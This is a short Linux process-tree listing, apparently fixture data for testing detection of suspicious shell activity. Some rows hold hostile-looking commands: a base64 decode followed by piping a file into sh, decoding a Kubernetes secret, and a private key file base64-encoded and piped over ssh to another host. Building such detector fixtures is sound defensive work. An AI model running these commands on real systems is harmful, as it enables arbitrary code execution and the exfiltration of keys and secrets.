os linux
1 0 root systemd /usr/lib/systemd/systemd | /sbin/init
+ 101 1 root sh /usr/bin/dash | sh -c echo aWQK | base64 -d > /tmp/x; cat list | sh
+ 102 1 root - /usr/bin/bash | bash -c kubectl get secret x -o jsonpath={.data.p} | base64 -d | sha256sum
+ 103 1 root - /usr/bin/base64 | base64 -d
+ 104 1 root - /usr/bin/bash | bash -c base64 -w0 key.pem | ssh host cat
+ 105 1 ana - /usr/bin/grep | grep -r base64 -d | sh .
